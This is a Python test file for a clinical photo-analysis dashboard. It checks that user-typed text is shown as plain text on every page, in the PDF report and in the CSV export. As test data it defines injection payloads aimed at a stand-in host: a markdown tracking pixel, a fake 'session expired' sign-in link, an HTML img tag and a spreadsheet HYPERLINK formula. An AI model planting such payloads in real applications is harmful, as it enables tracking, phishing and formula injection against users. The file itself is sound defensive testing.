"""Issue 24, "text is text": everything a person types (notes, names, study names and
descriptions, arm names, treatment events, review notes) shows as plain text on every page, in
the PDF and in the CSV: markdown that would make the browser fetch an outside address (an
image), a fake link, HTML, and a spreadsheet formula are stored in every such field, and no
page renders them (the markdown each element holds has them escaped), the PDF prints them as
text without a link, and the CSV quotes the formula."""
from __future__ import annotations

import csv
import io
import re
from datetime import date

import pandas as pd
import pytest

from tests.dashboard.fixtures_d2 import face_photo, lesion_row, make_analysis, open_as

IMAGE = "![](http://tracker.invalid/pixel.png?who=A002)"
LINK = "[Your session expired: sign in again](http://tracker.invalid/login)"
HTML = "<img src=http://tracker.invalid/x.png>"
FORMULA = '=HYPERLINK("http://tracker.invalid/f","open")'
PAYLOAD = f"{IMAGE} {LINK} {HTML} {FORMULA}"
# What must never reach an element that renders markdown: an image or link construct, an HTML
# tag, or a bare outside address (GitHub-flavoured markdown makes a link of it).
RAW = ("![", "](", "<img", "http://tracker")
MARKDOWN_KINDS = ("title", "header", "subheader", "markdown", "caption", "info", "warning",
                  "error", "success", "exception", "toast")


def _rendered(at) -> list[str]:  # noqa: ANN001 - an AppTest
    """The markdown source of every element that renders markdown, labels of widgets too."""
    sources: list[str] = []
    for kind in MARKDOWN_KINDS:
        try:
            elements = getattr(at, kind)
        except (AttributeError, KeyError):
            continue
        sources += [str(element.value) for element in elements]
    for kind in ("button", "checkbox", "toggle", "radio", "selectbox", "text_input", "text_area",
                 "expander", "tabs"):
        try:
            elements = getattr(at, kind)
        except (AttributeError, KeyError):
            continue
        sources += [str(getattr(element, "label", "")) for element in elements]
    return sources


def _assert_plain(at, page: str) -> None:  # noqa: ANN001
    assert not at.exception, f"{page}: {at.exception}"
    for source in _rendered(at):
        # An escaped character ("\\<", "\\[") is shown as itself and starts nothing: left out.
        active = re.sub(r"\\[!-/:-@\[-`{-~]", "", source)
        for raw in RAW:
            assert raw not in active, f"{page} renders {raw!r} as markdown: {source[:300]!r}"


@pytest.fixture
def clinic(dash):  # noqa: ANN001, ANN201
    """Every free-text field filled with the payload: the clinician's and the researcher's
    full names and team, the patient's name and notes, a visit's treatment notes, a review's
    notes, a treatment event, a study's name, description and an arm's name."""
    from db.models import PatientUpdate
    from db.repository import (
        add_review,
        add_study_member,
        add_treatment_event,
        create_study,
        enrol_patient,
        latest_analysis,
        list_arms,
        list_photos,
        update_account,
        update_patient,
    )

    admin = dash.make_account("root", role="admin")
    doctor = dash.make_account("doc", team="north")
    researcher = dash.make_account("res", role="researcher")
    boss = dash.get_account(admin)
    with dash.env.session() as session:
        for account in (doctor, researcher):
            update_account(session=session, actor=boss, account_id=account,
                           full_name=f"Dr {LINK} {HTML}")
    patient = dash.make_patient(doctor, "A002", name=f"Jane {IMAGE}", team="north")
    doc = dash.get_account(doctor)
    visits = []
    for day, brightness in ((date(2024, 1, 10), 0), (date(2024, 2, 7), 5)):
        photo = face_photo(brightness=brightness)
        visits.append(dash.make_visit(doctor, patient, day, photo=photo, notes=PAYLOAD,
                                      analysis=make_analysis(photo, [lesion_row("papule", 60, 60)])))
    with dash.env.session() as session:
        update_patient(session=session, actor=doc, patient_id=patient,
                       data=PatientUpdate(notes=PAYLOAD))
        add_treatment_event(session=session, actor=doc, patient_id=patient,
                            event_date=date(2024, 1, 20), description=PAYLOAD)
        photo_row = list_photos(session=session, actor=doc, visit_id=visits[0])[0]
        analysis = latest_analysis(session=session, actor=doc, photo_id=photo_row.id)
        add_review(session=session, actor=doc, analysis_id=analysis.id, iga=2, notes=PAYLOAD)
        study = create_study(session=session, actor=doc, name=f"Trial {IMAGE}",
                             description=PAYLOAD, arms=[FORMULA, "[arm](http://tracker.invalid)"])
        arm = list_arms(session=session, actor=doc, study_id=study.id)[0]
        enrol_patient(session=session, actor=doc, study_id=study.id, arm_id=arm.id,
                      patient_id=patient)
        add_study_member(session=session, actor=doc, study_id=study.id, account_id=researcher)
        study_id = study.id
    return dict(admin=admin, doctor=doctor, researcher=researcher, patient=patient,
                visits=visits, study_id=study_id)


PAGES = {
    "doctor": ("patients", "visit", "trends", "compare", "review", "studies", "reports"),
    "researcher": ("patients", "visit", "trends", "studies", "reports"),
    "admin": ("patients", "visit", "trends", "studies", "accounts", "audit"),
}


@pytest.mark.parametrize("who,page", [(who, page) for who, pages in PAGES.items() for page in pages])
def test_no_page_renders_typed_text_as_markdown(dash, clinic, who: str, page: str) -> None:  # noqa: ANN001
    state = {"study_tab": "Members"} if page == "studies" else None
    at = open_as(dash, clinic[who], page, patient_id=clinic["patient"], state=state)
    _assert_plain(at, f"{page} as {who}")


def test_typed_text_is_shown_as_typed(dash, clinic) -> None:  # noqa: ANN001
    """Escaped, not dropped: the clinician reads the notes exactly as they were typed."""
    at = open_as(dash, clinic["doctor"], "visit", patient_id=clinic["patient"])
    assert f"Treatment notes: {PAYLOAD}" in dash.page_text(at)
    at = open_as(dash, clinic["doctor"], "patients", patient_id=clinic["patient"])
    assert PAYLOAD in dash.page_text(at)
    at = open_as(dash, clinic["doctor"], "studies")
    assert PAYLOAD in dash.page_text(at)  # the description


def test_the_signed_in_name_in_the_sidebar_is_plain_text(dash, clinic) -> None:  # noqa: ANN001
    at = open_as(dash, clinic["doctor"], "patients")
    sidebar = [str(m.value) for m in at.sidebar.markdown]
    assert any("Your session expired" in text for text in sidebar)
    active = [re.sub(r"\\[!-/:-@\[-`{-~]", "", text) for text in sidebar]
    assert not any(raw in text for text in active for raw in RAW)


def test_the_pdf_prints_typed_text_without_links(dash, clinic) -> None:  # noqa: ANN001
    from tests.dashboard.test_reports_page import _pdf_text

    at = open_as(dash, clinic["doctor"], "reports", patient_id=clinic["patient"])
    dash.widget(at.checkbox, "Include the patient's name").check().run()
    dash.widget(at.button, "Prepare the PDF report").click().run()
    assert not at.exception
    pdf = at.session_state["report_pdf"]["pdf"]
    text = _pdf_text(pdf)
    assert "tracker.invalid/pixel.png" in text  # the name, printed as typed
    assert b"/URI" not in pdf and b"/Link" not in pdf  # nothing in it is a link


def test_the_study_csv_quotes_a_formula(dash, clinic) -> None:  # noqa: ANN001
    """The studies page's CSV (dashboard.display.csv_bytes): a cell a spreadsheet would run as
    a formula starts with a quote; the arm names are in it as typed otherwise."""
    from dashboard import display

    at = open_as(dash, clinic["doctor"], "studies", state={"study_tab": "Measurements"})
    assert not at.exception
    table = pd.DataFrame({"arm": [FORMULA, "+1", "-2", "@SUM(A1)", "\tx", "plain"], "total": [1, -2, 3, 4, 5, 6]})
    rows = list(csv.reader(io.StringIO(display.csv_bytes(table).decode("utf-8"))))
    cells = [row[0] for row in rows[1:]]
    assert cells == ["'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", "'\tx", "plain"]
    assert [row[1] for row in rows[1:]] == ["1", "-2", "3", "4", "5", "6"]  # numbers stay numbers
    source = open(display.__file__.replace("display.py", "views/studies.py")).read()
    assert re.search(r"display\.csv_bytes\(table\)", source) and ".to_csv(" not in source
